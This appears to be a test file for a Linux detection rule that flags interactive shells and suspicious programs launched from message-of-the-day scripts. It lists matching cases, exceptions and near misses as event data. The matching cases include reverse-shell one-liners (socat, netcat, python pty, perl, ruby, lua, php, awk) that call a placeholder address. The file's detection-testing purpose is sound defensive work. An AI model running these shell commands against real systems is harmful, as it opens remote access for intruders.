# SPDX-License-Identifier: GPL-2.0-or-later
# Base: a script that is new in /etc/update-motd.d starts an interactive bash.
rule motd-process-spawned
base {"event.category": "process", "event.type": "start", "event.action": "exec", "host.os.type": "linux", "process.executable": "/usr/bin/bash", "process.args": ["bash", "-i"], "process.parent.executable": "/etc/update-motd.d/99-x", "process.parent.args": ["/bin/sh", "/etc/update-motd.d/99-x"]}

# shells
+ bash-i
+ sh-l {"process.executable": "/bin/sh", "process.args": ["sh", "-l"]}
+ dash {"process.executable": "/usr/bin/dash", "process.args": ["dash", "-i"]}
+ tcsh {"process.executable": "/usr/bin/tcsh", "process.args": ["tcsh", "-i"]}
+ csh {"process.executable": "/usr/bin/csh", "process.args": ["csh", "-i"]}
+ zsh {"process.executable": "/usr/bin/zsh", "process.args": ["zsh", "-i"]}
+ ksh {"process.executable": "/usr/bin/ksh", "process.args": ["ksh", "-i"]}
+ fish {"process.executable": "/usr/bin/fish", "process.args": ["fish", "-i"]}
+ big-letter {"process.args": ["bash", "-I"]}
+ exec-event {"event.action": "exec_event"}
+ action-in-capitals {"event.action": "EXEC"}
+ script-in-capitals {"process.parent.executable": "/etc/UPDATE-motd.d/99-x"}
+ socat-gives-a-shell {"process.executable": "/bin/sh", "process.args": ["sh"], "process.parent.name": "socat", "process.parent.args": ["socat", "tcp:198.51.100.1:1", "exec:/bin/sh"]}

# netcat
+ netcat-nc {"process.executable": "/usr/bin/nc", "process.args": ["nc", "198.51.100.1", "443"]}
+ netcat-ncat {"process.executable": "/usr/bin/ncat", "process.args": ["ncat", "198.51.100.1", "443"]}
+ netcat-netcat {"process.executable": "/usr/bin/netcat", "process.args": ["netcat", "198.51.100.1", "443"]}
+ netcat-nc.openbsd {"process.executable": "/usr/bin/nc.openbsd", "process.args": ["nc.openbsd", "198.51.100.1", "443"]}
+ netcat-NC {"process.executable": "/usr/bin/NC", "process.args": ["NC", "198.51.100.1", "443"]}

# one-liners
+ python-pty {"process.executable": "/usr/bin/python3.11", "process.args": ["python3", "-c", "import pty;pty.spawn('/bin/sh')"]}
+ python-subprocess {"process.executable": "/usr/bin/python3", "process.args": ["python3", "-c", "import subprocess; subprocess.call('id')"]}
+ perl-exec {"process.executable": "/usr/bin/perl", "process.args": ["perl", "-e", "use Socket;exec('/bin/sh')"]}
+ perl-system {"process.executable": "/usr/bin/perl5.36", "process.args": ["perl", "-e", "use Socket;system('sh')"]}
+ ruby-new {"process.executable": "/usr/bin/ruby", "process.args": ["ruby", "-rsocket", "-e", "TCPSocket.new('198.51.100.1',1)"]}
+ ruby-rsocket-alone {"process.executable": "/usr/bin/ruby", "process.args": ["ruby", "-rsocket", "x", "TCPSocket.new"]}
+ ruby-open {"process.executable": "/usr/bin/ruby3.1", "process.args": ["ruby", "-e", "TCPSocket.open('198.51.100.1',1)"]}
+ lua-popen {"process.executable": "/usr/bin/lua5.4", "process.args": ["lua", "-e", "s=require'socket.tcp';io.popen('sh')"]}
+ lua-execute {"process.executable": "/usr/bin/lua", "process.args": ["lua", "-e", "socket.tcp();os.execute('sh')"]}
+ php {"process.executable": "/usr/bin/php8.2", "process.args": ["php", "-r", "$s=fsockopen('198.51.100.1',1);exec('/bin/bash -i');"]}
+ awk {"process.executable": "/usr/bin/awk", "process.args": ["awk", "BEGIN{s=\"/inet/tcp/0/198.51.100.1/1\"}"]}
+ gawk {"process.executable": "/usr/bin/gawk", "process.args": ["gawk", "BEGIN{s=\"/inet/tcp/0/198.51.100.1/1\"}"]}
+ mawk {"process.executable": "/usr/bin/mawk", "process.args": ["mawk", "BEGIN{s=\"/inet/tcp/0/198.51.100.1/1\"}"]}
+ nawk {"process.executable": "/usr/bin/nawk", "process.args": ["nawk", "BEGIN{s=\"/inet/tcp/0/198.51.100.1/1\"}"]}
+ openssl {"process.executable": "/usr/bin/openssl", "process.args": ["openssl", "s_client"]}
+ telnet {"process.executable": "/usr/bin/telnet", "process.args": ["telnet"]}

# a program alone, from an odd place
+ place-1 {"process.executable": "/root/x", "process.args": ["./x"]}
+ place-2 {"process.executable": "/boot/x", "process.args": ["/boot/x"]}
+ place-3 {"process.executable": "/dev/shm/x", "process.args": ["/dev/shm/x"]}
+ place-4 {"process.executable": "/etc/cron.daily/x", "process.args": ["/etc/cron.daily/x"]}
+ place-5 {"process.executable": "/etc/init.d/x", "process.args": ["/etc/init.d/x"]}
+ place-6 {"process.executable": "/etc/update-motd.d/00-y", "process.args": ["/etc/update-motd.d/00-y"]}
+ place-7 {"process.executable": "/run/x", "process.args": ["/run/x"]}
+ place-8 {"process.executable": "/srv/x", "process.args": ["/srv/x"]}
+ place-9 {"process.executable": "/tmp/x", "process.args": ["/tmp/x"]}
+ place-10 {"process.executable": "/var/tmp/x", "process.args": ["/var/tmp/x"]}
+ place-11 {"process.executable": "/var/log/x", "process.args": ["/var/log/x"]}
+ place-12 {"process.executable": "/opt/x/bin/x", "process.args": ["/opt/x/bin/x"]}

# the exceptions, each on an act that would match
- parent-force {"process.parent.args": ["/bin/sh", "/etc/update-motd.d/99-x", "--force"]}
- lolcat {"process.args": ["bash", "-i", "/usr/games/lolcat"]}
- screenfetch {"process.args": ["bash", "-i", "/usr/bin/screenfetch"]}
- crash-notification {"process.parent.executable": "/etc/update-motd.d/system-crash-notification"}
- netcat-scan {"process.executable": "/usr/bin/nc", "process.args": ["nc", "-vz", "198.51.100.1", "443"]}
- netcat-listen {"process.executable": "/usr/bin/nc", "process.args": ["nc", "-lp", "443"]}
- netcat-two-words {"process.executable": "/usr/bin/nc", "process.args": ["nc", "198.51.100.1"]}

# exactly: in and == have no folding and no wildcards
- shell-in-capitals {"process.executable": "/usr/bin/BASH", "process.args": ["BASH", "-i"]}
- exception-in-capitals-does-not-help-a-shell-alone {"process.args": ["bash"]}
+ force-in-capitals {"process.parent.args": ["/bin/sh", "/etc/update-motd.d/99-x", "--FORCE"]}
+ lolcat-in-capitals {"process.args": ["bash", "-i", "/usr/games/LOLCAT"]}
+ crash-notification-with-a-suffix {"process.parent.executable": "/etc/update-motd.d/system-crash-notification2"}

# near misses of each branch
- shell-command {"process.args": ["bash", "-c", "echo hello"]}
- shell-il-is-another-word {"process.args": ["bash", "-il"]}
- shell-rbash {"process.executable": "/usr/bin/rbash", "process.args": ["rbash", "-i"]}
- other-parent {"process.parent.executable": "/usr/sbin/sshd"}
- the-folder-itself {"process.parent.executable": "/etc/update-motd.d"}
- no-parent {"process.parent.executable": null, "process.parent.name": null, "process.parent.args": null}
- fork {"event.action": "fork"}
- end {"event.type": "end"}
- other-system {"host.os.type": "macos"}
- file-event {"event.category": "file"}
- python-script {"process.executable": "/usr/bin/python3", "process.args": ["python3", "/usr/lib/x.py"]}
- python-pty-in-a-file {"process.executable": "/usr/bin/python3", "process.args": ["python3", "import pty spawn"]}
- perl-without-socket {"process.executable": "/usr/bin/perl", "process.args": ["perl", "-e", "system('date')"]}
- perl-socket-only {"process.executable": "/usr/bin/perl", "process.args": ["perl", "-e", "use Socket;"]}
- ruby-without-socket {"process.executable": "/usr/bin/ruby", "process.args": ["ruby", "-e", "puts 1"]}
- lua-without-popen {"process.executable": "/usr/bin/lua", "process.args": ["lua", "-e", "socket.tcp()"]}
- php-without-shell {"process.executable": "/usr/bin/php", "process.args": ["php", "-r", "fsockopen('x',1);"]}
- awk-print {"process.executable": "/usr/bin/awk", "process.args": ["awk", "{print $1}"]}
- openssl3 {"process.executable": "/usr/bin/openssl3", "process.args": ["openssl3"]}
- place-with-argument {"process.executable": "/opt/x/bin/x", "process.args": ["/opt/x/bin/x", "-v"]}
- usual-place {"process.executable": "/usr/bin/uname", "process.args": ["/usr/bin/uname"]}
- uname {"process.executable": "/usr/bin/uname", "process.args": ["uname", "-snrvm"]}
- shell-below-socat-without-exec {"process.executable": "/bin/sh", "process.args": ["sh"], "process.parent.name": "socat", "process.parent.args": ["socat", "tcp:198.51.100.1:1", "-"]}
